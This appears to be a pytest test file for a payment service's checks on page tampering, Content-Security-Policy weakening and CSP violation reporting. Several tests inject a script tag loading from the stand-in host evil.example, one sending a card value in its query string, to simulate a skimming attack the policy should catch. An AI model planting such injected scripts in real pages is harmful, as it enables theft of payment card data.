"""Somebody notices when the page is changed on its way, or runs what it should not."""

import asyncio

import orjson
import pytest
from playwright.async_api import expect

from payment_engine import metrics
from payment_engine.page_check import NotReached, differences, fetch_page
from payment_engine.web.reports import violations
from tests.web.conftest import Tab
from tests.world import World


async def served(world: World) -> tuple[dict[str, str], bytes]:
    """The page as it is served."""
    headers, body = await asyncio.to_thread(fetch_page, str(world.api.base_url))
    return dict(headers), body


async def test_the_served_page_is_that_of_the_release(world: World) -> None:
    gateway = str(world.mock.base_url).rstrip("/")
    headers, body = await served(world)
    assert list(differences(headers, body, [gateway])) == []
    [unnamed, _] = differences(headers, body)
    assert unnamed.startswith("the policy's connect-src is")


async def test_a_changed_byte_and_a_weaker_policy_are_found(world: World) -> None:
    gateway = str(world.mock.base_url).rstrip("/")
    headers, body = await served(world)
    added = body.replace(b"<main", b"<script src=//evil.example></script><main")
    [changed] = differences(headers, added, [gateway])
    assert changed.startswith("the document differs: from byte ")
    assert "evil.example" in changed
    weaker = headers["content-security-policy"].replace("script-src", "script-src https:")
    odd = {**headers, "content-security-policy": weaker, "referrer-policy": "unsafe-url"}
    found = list(differences(odd, body, [gateway]))
    assert len(found) == 2
    assert any("the policy's script-src is \"https:" in each for each in found)
    assert "the header Referrer-Policy is 'unsafe-url' instead of 'no-referrer'" in found


async def test_a_page_that_cannot_be_fetched_is_no_success() -> None:
    for url in ("ftp://pay.example", "http://127.0.0.1:1"):
        with pytest.raises(NotReached):
            await asyncio.to_thread(fetch_page, url)


async def test_a_browser_reports_what_the_policy_blocked(
    opened: dict[str, str], tab: Tab, capsys: pytest.CaptureFixture[str]
) -> None:
    await expect(tab.page.get_by_role("button", name="PROCEED TO PAYMENT")).to_be_visible()
    counter = metrics.policy_violations.labels("script-src-elem")
    before = counter._value.get()
    await tab.page.evaluate(
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js?card=4';"
        "document.body.append(s)"
    )
    async with asyncio.timeout(10):
        while counter._value.get() == before:
            await asyncio.sleep(0.05)
    logged = capsys.readouterr().out
    assert "https://evil.example" in logged
    assert "card=4" not in logged


def test_a_report_tells_a_directive_and_an_origin_and_nothing_else() -> None:
    old = b'{"csp-report": {"violated-directive": "img-src x", "blocked-uri": "https://a.b:1/c?d"}}'
    new = (
        b'[{"type": "csp-violation", "body": {"effectiveDirective": "x", "blockedURL": "inline"}}]'
    )
    assert list(violations(old)) == [("img-src", "https://a.b:1")]
    assert list(violations(new)) == [("other", "inline")]
    for odd in (b"", b"{", b"[]", b"5", b'{"csp-report": 5}', b"[5]"):
        assert list(violations(odd)) == []
    for blocked in ("4111111111111111", "javascript:1", "http://[", "https://\u20b9.in", None):
        body = {"blocked-uri": blocked, "effective-directive": "img-src"}
        assert list(violations(orjson.dumps({"csp-report": body}))) == [("img-src", "other")]


async def test_reports_are_answered_without_a_word_and_limited(world: World) -> None:
    sent = [(await world.api.post("/csp-reports", content=b"{}")).status_code for _ in range(31)]
    assert set(sent[:30]) == {204}
    assert sent[30] == 429
